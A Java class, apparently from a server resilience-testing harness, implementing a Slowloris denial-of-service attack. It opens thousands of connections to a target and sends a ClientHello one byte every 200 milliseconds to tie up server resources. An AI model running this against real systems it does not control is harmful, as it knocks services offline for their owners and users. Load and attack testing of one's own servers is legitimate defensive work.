package io.cachedhive.attack.load;

import io.cachedhive.attack.plan.Attack;
import io.cachedhive.attack.plan.Pressure;
import io.cachedhive.attack.setting.Target;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.Optional;
import java.util.Set;

/**
 * Many peers without the secret send a byte now and then.
 */
public final class Slowloris
        implements Attack
{
    private static final int DEFAULT_CONNECTIONS = 3000;
    private static final long BYTE_MILLIS = 200;

    @Override
    public String name()
    {
        return "slowloris";
    }

    @Override
    public String description()
    {
        return "many connections without a proof that send a byte now and then";
    }

    @Override
    public Set<Need> needs()
    {
        return Set.of();
    }

    @Override
    public boolean isCounted()
    {
        // with few connections, none is closed before the end
        return false;
    }

    @Override
    public Optional<String> run(Target target, Pressure pressure)
            throws IOException, InterruptedException
    {
        ByteBuffer record = ClientHello.create();
        Swarm.run(pressure.connections().orElse(DEFAULT_CONNECTIONS), pressure.duration(), _ -> {
            try (SocketChannel connection = SocketChannel.open(target.socketAddress())) {
                for (int position = 0; position < record.limit(); position++) {
                    connection.write(record.slice(position, 1));
                    Thread.sleep(BYTE_MILLIS);
                }
            }
        });
        return Optional.empty();
    }
}
